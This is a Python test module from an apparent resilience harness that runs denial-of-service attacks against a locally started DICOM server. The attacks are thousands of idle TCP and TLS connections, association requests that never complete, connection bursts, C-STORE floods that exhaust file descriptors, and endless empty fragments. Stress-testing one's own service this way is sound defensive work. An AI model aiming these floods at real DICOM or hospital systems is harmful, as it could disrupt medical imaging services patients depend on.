"""Many connections: silent, in bursts, in the middle of a TLS handshake, and more than there are descriptors."""

from __future__ import annotations

import os
import socket
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from struct import pack
from typing import Any

import trustme

from attack.harness import Attack, Victim
from attack.wire import CT, HOST, IMPLICIT, VERIFICATION, Requestor, associate_rq, command, element, p_data

SECONDS = 6.0
ECHO_RQ, STORE_RQ = 0x0030, 0x0001
_CERTIFICATE = Path(tempfile.mkdtemp(prefix="dulcimer-attack-")) / "both.pem"
trustme.CA().issue_cert("localhost").private_key_and_cert_chain_pem.write_to_path(str(_CERTIFICATE))


def _open(stack: ExitStack, victim: Victim) -> socket.socket:
    return stack.enter_context(socket.create_connection((HOST, victim.port), 10))


def _log(victim: Victim) -> str:
    return f"{os.fstat(victim.peer.output.fileno()).st_size / 1e3:.0f} kB of log"


def _requested(victim: Victim) -> str:
    """The answer to an association request now, and the time it takes."""
    begin = time.monotonic()
    try:
        with Requestor.open(victim.port, VERIFICATION, timeout=10) as requestor:
            said = f"accepted, C-ECHO {requestor.told(ECHO_RQ, VERIFICATION, None)}"
    except (OSError, EOFError) as error:
        said = f"not accepted: {error}"
    return f"{said} after {(time.monotonic() - begin) * 1e3:.0f} ms"


def _silent(count: int, *, seconds: float = 2.0) -> Callable[[Victim], str]:
    """Silent connections; then an association is requested."""

    def act(victim: Victim) -> str:
        with ExitStack() as stack:
            opened = 0
            for _ in range(count):
                try:
                    _open(stack, victim)
                    opened += 1
                except OSError:
                    continue
            time.sleep(seconds)
            return f"{opened} opened; a request is {_requested(victim)}; {_log(victim)}"

    return act


def _half_requests(count: int, size: int) -> Callable[[Victim], str]:
    """Association requests without their last bytes."""

    def act(victim: Victim) -> str:
        request = pack(">BxI", 1, size) + bytes(size - 1000)
        sent = 0
        with ExitStack() as stack:
            opened: list[Any] = [[_open(stack, victim), memoryview(request)] for _ in range(count)]
            for one in opened:
                one[0].setblocking(False)
            end = time.monotonic() + SECONDS
            while time.monotonic() < end:
                for one in opened:
                    try:
                        taken = one[0].send(one[1]) if one[1] else 0
                    except OSError:
                        continue
                    sent += taken
                    one[1] = one[1][taken:]
            return f"{sent / 1e6:.0f} MB taken; a request is {_requested(victim)}"

    return act


def _burst(rate: int, request: bytes) -> Callable[[Victim], str]:
    """Many connections per second, each closed at once."""

    def act(victim: Victim) -> str:
        opened = failed = 0
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < SECONDS:
            if opened + failed >= now * rate:
                time.sleep(0.001)
                continue
            try:
                with socket.create_connection((HOST, victim.port), 10) as connection:
                    connection.sendall(request)
                opened += 1
            except OSError:
                failed += 1
        return f"{opened / SECONDS:.0f} connections/s, {failed} failed; a request is {_requested(victim)}"

    return act


def _stores(associations: int, each: int, size: int) -> Callable[[Victim], str]:
    """Thousands of small C-STORE requests on each association, sent at once; returns how they were answered."""

    def act(victim: Victim) -> str:
        statuses: Counter[str] = Counter()
        with ExitStack() as stack:
            opened = [stack.enter_context(Requestor.open(victim.port, CT)) for _ in range(associations)]
            for number, one in enumerate(opened):
                stream = bytearray()
                for message in range(each):
                    uid = b"1.2.%d.%d" % (number, message + 1)
                    data = element(0x00080016, CT.encode()) + element(0x00080018, uid)
                    data += element(0x00100020, b"1") + element(0x0020000D, b"1.2") + element(0x0020000E, b"1.2.1")
                    data += element(0x00420011, bytes(size))
                    stream += p_data(
                        1, 3, command(STORE_RQ, CT, data=True, message_id=message + 1, more={0x00001000: uid})
                    )
                    stream += p_data(1, 2, data)
                one.connection.setblocking(False)
                while stream:
                    try:
                        count = one.connection.send(stream)
                    except BlockingIOError:
                        break
                    del stream[:count]
                one.connection.setblocking(True)
                one.connection.settimeout(20)
            end = time.monotonic() + SECONDS
            most = 0
            while time.monotonic() < end:
                most = max(most, len(list(Path(f"/proc/{victim.peer.pid}/fd").iterdir())))
                for one in opened:
                    one.connection.setblocking(False)
                    try:
                        answers = one.connection.recv(1 << 16)
                    except OSError:
                        continue
                    finally:
                        one.connection.setblocking(True)
                    statuses["0000H"] += answers.count(element(0x00000900, pack("<H", 0)))
                    statuses["A700H"] += answers.count(element(0x00000900, pack("<H", 0xA700)))
                time.sleep(0.01)
        told = ", ".join(f"{count} {status}" for status, count in statuses.items())
        return f"{told}; {most} descriptors; {_log(victim)}"

    return act


def _empty_fragments(victim: Victim) -> str:
    begin = time.monotonic()
    fragment = p_data(1, 1, b"")
    with Requestor.open(victim.port, VERIFICATION) as requestor:
        try:
            while time.monotonic() - begin < 3 * SECONDS:
                requestor.connection.sendall(fragment)
                time.sleep(0.2)
        except OSError:
            return f"aborted after {time.monotonic() - begin:.1f} s"
    return f"there after {time.monotonic() - begin:.1f} s"


_TLS = ("--tls-cert", str(_CERTIFICATE))
_REQUEST = associate_rq([(VERIFICATION, IMPLICIT)])
ATTACKS = [
    Attack("1,100 silent connections", _silent(1100)),
    Attack("5,000 silent connections", _silent(5000)),
    Attack("600 silent connections, 400 descriptors", _silent(600, seconds=8.0), descriptors=400),
    Attack("3,000 silent TLS clients", _silent(3000), _TLS),
    Attack("1,900 association requests of 380 kB that do not end", _half_requests(1900, 380_000)),
    Attack("2,000 connections a second", _burst(2000, b"")),
    Attack("2,000 connections a second, each with a request", _burst(2000, _REQUEST)),
    Attack("6 x 4,000 C-STOREs at once, 1,024 descriptors", _stores(6, 4000, 10), descriptors=1024),
    Attack("6 x 500 C-STOREs of 40 kB at once, 1,024 descriptors", _stores(6, 500, 40_000), descriptors=1024),
    Attack("empty command fragments for ever, -tn 3", _empty_fragments, ("-tn", "3")),
]
